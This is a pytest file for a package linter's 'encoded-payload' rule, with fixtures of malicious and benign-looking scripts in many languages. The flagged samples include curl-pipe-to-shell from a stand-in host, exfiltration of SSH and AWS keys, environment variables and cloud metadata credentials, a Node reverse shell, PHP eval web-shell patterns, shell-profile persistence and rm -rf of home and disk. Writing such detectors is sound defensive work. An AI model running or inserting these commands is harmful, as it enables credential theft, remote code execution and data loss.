"""Scripts that are neither Python nor JavaScript: what they decode, fetch and run, and what is only like it."""

from __future__ import annotations

import marshal

import pytest

from fixtures.build import build
from fixtures.lint import lint
from pkglint.detect.code import downloads, installers
from pkglint.model import Kind, Level

STRONG = {
    "a variable of PowerShell": ("a.ps1", '$b = "aGVsbG8="\n$t = [Convert]::FromBase64String($b)\niex $t\n'),
    "a variable that is handed over": ("a.ps1", '$t = [Convert]::FromBase64String("aGVsbG8=")\n$t | IEX\n'),
    "a program of .NET": ("a.ps1", '$b = [Convert]::FromBase64String("TVqQ")\n[Reflection.Assembly]::Load($b)\n'),
    "characters": ("a.ps1", "$c = -join ([char[]](105,101,120,32,40))\nInvoke-Expression $c\n"),
    "backwards": ("a.ps1", "iex ($s[-1..-($s.Length)] -join '')\n"),
    "PowerShell from nowhere": ("a.ps1", "iex (irm https://x.invalid/a.ps1)\n"),
    "variables of PowerShell": ("a.ps1", "irm -Method Post https://x.invalid -Body (gci env: | ConvertTo-Json)\n"),
    "PHP by name": ("a.php", "<?php $f = 'base64_decode'; eval($f('aGVsbG8='));\n"),
    "PHP in pieces": ("a.php", "<?php $f = 'base'.'64_decode'; $g = 'as'.'sert'; $g($f('aGVsbG8='));\n"),
    "PHP as numbers": ("a.php", '<?php $g = "\\x61\\x73\\x73\\x65\\x72\\x74"; $g(base64_decode($x));\n'),
    "PHP by expression": ("a.php", "<?php preg_replace('/.*/e', base64_decode('aGVsbG8='), '');\n"),
    "PHP in a URL": ("a.php", "<?php include 'data://text/plain;base64,PD9waHA=';\n"),
    "PHP from nowhere": ("a.php", "<?php eval('?>' . file_get_contents('https://x.invalid/a.txt'));\n"),
    "PHP through variables": ("a.php", "<?php $a = gzinflate($z);\n$b = $a;\n$c = trim($b);\neval($c);\n"),
    "Ruby from nowhere": ("a.rb", "eval(URI.open('https://x.invalid/a.rb').read)\n"),
    "Ruby through variables": ("a.rb", "code = Base64.decode64(text)\neval code\n"),
    "Perl from nowhere": ("a.pl", 'use LWP::Simple; eval get("https://x.invalid/a.pl");\n'),
    "Lua from a program": ("a.lua", 'local h = io.popen("curl -s https://x.invalid/a"); loadstring(h:read("*a"))()\n'),
    "a command of Go": ("a.go", 'func init() { exec.Command("sh", "-c", "curl -s https://x.invalid/a | sh").Run() }\n'),
    "a command over two lines": (
        "build.rs",
        'Command::new("bash")\n    .args(&["-c",\n        "curl -fsSL https://x.invalid/a | bash"])\n    .spawn();\n',
    ),
    "a command of CMake": ("CMakeLists.txt", 'execute_process(COMMAND sh -c "curl -s https://x.invalid/a | sh")\n'),
    "a command of Meson": ("meson.build", "run_command('sh', '-c', 'curl -s https://x.invalid/a | sh')\n"),
    "a command of Gradle": ("build.gradle", "exec { commandLine 'sh', '-c', 'curl -s https://x.invalid/a | sh' }\n"),
    "a file of a desktop": ("a.desktop", 'Exec=sh -c "curl -s https://x.invalid/u | sh"\n'),
    "from nowhere": ("a.sh", "curl -fsSL https://x.invalid/a | sh\n"),
    "from nowhere, unpacked": ("a.sh", "curl -s https://x.invalid/a.gz | gunzip | sh\n"),
    "saved from nowhere": ("a.sh", "wget -q https://x.invalid/a -O /tmp/.a; chmod +x /tmp/.a\nnohup /tmp/.a &\n"),
    "saved by a batch file": ("a.bat", 'curl -o "%TEMP%\\a.exe" https://x.invalid/a.exe\n"%TEMP%\\a.exe"\n'),
    "numbers that are printed": ("a.sh", "printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x78' | sh\n"),
    "numbers that are evaluated": ("a.sh", "eval \"$(printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68')\"\n"),
    "a damaged file that is code": ("a.m4", "sed r tests/a.xz | xz -d 2>/dev/null | /bin/bash\n"),
    "directories of keys": ("a.sh", "tar cz ~/.ssh ~/.aws 2>/dev/null | curl -s -F f=@- https://x.invalid/u\n"),
    "the home directory": ("a.sh", "rm -rf ~/*\n"),
    "the disk": ("a.js", 'require("child_process").exec(a ? "rd /s /q C:\\\\" : "rm -rf --no-preserve-root /");\n'),
    "a text with a hole": ("a.js", 'require("child_process").exec("curl -s " + url + " | sh");\n'),
    "a worker": ("a.js", 'const {Worker} = require("worker_threads");\nnew Worker(atob("eCgp"), {eval: true});\n'),
    "a file that is loaded": ("a.js", 'fs.writeFileSync(p + "/a", Buffer.from(x, "base64"));\nrequire(p + "/a");\n'),
    "a picture": ("a.js", 'eval(require("fs").readFileSync(__dirname + "/a.png").subarray(40).toString());\n'),
    "a shell on a line": (
        "a.js",
        ('var n = require("net"), s = require("child_process").spawn("/bin/sh", []), c = new n.Socket();\n'
        "c.connect(4444, h, () => { c.pipe(s.stdin); s.stdout.pipe(c); });\n"),
    ),
    "a file that starts by itself": ("a.js", 'fs.appendFileSync(h + "/.zshrc", "curl -s https://x.invalid/p | sh");\n'),
    "a collector": ("a.js", 'fetch("https://webhook.site/0", {method: "POST", body: out});\n'),
    "keys of a machine": (
        "a.py",
        ("import requests\n"
        'keys = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/a").text\n'
        'requests.post("https://x.invalid/c", data=keys)\n'),
    ),
    "code that is written": (
        "a.py",
        ("import os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\n"
        "f.write(b\"from urllib.request import urlopen;exec(urlopen('https://x.invalid/a').read())\")\n"
        "os.system(f'python {f.name}')\n"),
    ),
}  # fmt: skip
WEAK = {
    "a well-known tool": ("a.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n"),
    "a well-known tool of Windows": ("a.ps1", "iex (irm https://community.chocolatey.org/install.ps1)\n"),
    "a well-known tool of make": ("Makefile", "deps:\n\tcurl -LsSf https://astral.sh/uv/install.sh | sh\n"),
    "an address that is not known": ("a.sh", 'curl -fsSL "$URL" | sh\n'),
    "continuous integration": ("ci/a.sh", "curl -fsSL https://x.invalid/a | sh\n"),
}
QUIET = {
    "data for a program": (
        "a.sh",
        ("curl -s https://x.invalid/a | python3 -m json.tool\ncurl -s https://x.invalid/a | python -c 'import json'\n"
        "curl -s https://x.invalid/a | node parse.js\ncurl -s https://x.invalid/a | jq .a\nzcat a.sql.gz | mysql\n"),
    ),
    "an archive that is unpacked": ("a.sh", "curl -o a.tar.gz https://x.invalid/a.tar.gz\ntar xf a.tar.gz\n"),
    "a program whose checksum is known": (
        "a.sh",
        "curl -o ./a https://x.invalid/a\necho '0f ./a' | sha256sum -c\nchmod +x ./a\n./a\n",
    ),
    "what was not downloaded": ("a.sh", "curl -o a.json https://x.invalid/a.json\n./b\n"),
    "what a script made": ("a.sh", 'rm -rf ~/.cache/demo "$HOME/.demo" ./build /tmp/a\n'),
    "blocks of Perl": ("a.pl", "my $a = eval { decode_base64($text) };\neval { require JSON };\n"),
    "tools that print their set-up": ("a.ps1", "(& conda 'shell.powershell' 'hook') | Invoke-Expression\n"),
    "decoding alone": ("a.ps1", '$t = [Convert]::FromBase64String("aGVsbG8=")\nWrite-Host $t\n'),
    "decoding alone in PHP": ("a.php", "<?php $t = base64_decode($x); echo $t; eval('return 1;');\n"),
    "a comment": ("a.php", "<?php\n// eval(base64_decode($x))\n"),
    "Ruby": ("a.rb", "data = Base64.decode64(text)\nmodule_eval <<-X\n  def a; end\nX\n"),
    "commands of a build": ("CMakeLists.txt", "execute_process(COMMAND git rev-parse HEAD)\n"),
    "a worker of a file": ("a.js", 'const {Worker} = require("worker_threads");\nnew Worker("./a.js");\n'),
    "a file that is written": ("a.js", 'fs.writeFileSync(p, Buffer.from(x, "base64"));\nrequire("./a");\n'),
    "a client of a machine's keys": (
        "a.py",
        ("import requests\nurl = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
        "role = requests.get(url).text\nkeys = requests.get(url + role).json()\n"),
    ),
}  # fmt: skip


def levels(path: str, text: str) -> list[Level]:
    (result,) = lint(*build(Kind.NPM, {path: text})).results
    assert not result.crashes
    return [judged.level for judged in result.judged if judged.finding.rule == "encoded-payload"]


@pytest.mark.parametrize("form", STRONG)
def test_what_hides_is_an_error(form: str) -> None:
    assert levels(*STRONG[form]) == [Level.ERROR]


@pytest.mark.parametrize("form", WEAK)
def test_what_installs_a_tool_is_a_warning(form: str) -> None:
    assert levels(*WEAK[form]) == [Level.WARNING]


@pytest.mark.parametrize("form", QUIET)
def test_what_is_only_like_it_is_left_alone(form: str) -> None:
    assert levels(*QUIET[form]) == []


def test_hosts_are_known_with_those_below_them() -> None:
    assert not installers.is_unknown("curl https://raw.githubusercontent.com/a/b | sh")
    assert installers.is_unknown("curl https://githubusercontent.com.invalid/a | sh")
    assert installers.is_unknown("curl https://user:x@x.invalid:8443/a | sh")
    assert not installers.is_unknown("curl $URL | sh")


@pytest.mark.parametrize("path", [".github/a.sh", "tools/ci/a.sh", "ci_install.sh", ".circleci/b/a.sh", "x_ci/a.ps1"])
def test_places_of_continuous_integration(path: str) -> None:
    assert installers.is_continuous(path)


@pytest.mark.parametrize("path", ["a.sh", "circus/a.sh", "bin/cite.sh", "social/a.sh"])
def test_other_places(path: str) -> None:
    assert not installers.is_continuous(path)


def test_many_downloads_are_bounded() -> None:
    assert downloads.find("curl -o a https://x.invalid/a\n" * 20_000) is None


def test_compiled_code_without_its_source_that_executes_what_it_decodes() -> None:
    code = compile(f"import base64\nexec(base64.b64decode('{'cHJpbnQoMSk' * 12}'))\n", "a.py", "exec")
    data = bytes(16) + marshal.dumps(code)
    (result,) = lint(*build(Kind.WHEEL, {"demo/a.pyc": data, "demo/__pycache__/a.cpython-311.pyc": data})).results
    found = [judged.finding.path for judged in result.judged if judged.finding.rule == "encoded-payload"]
    assert found == ["demo/a.pyc"]
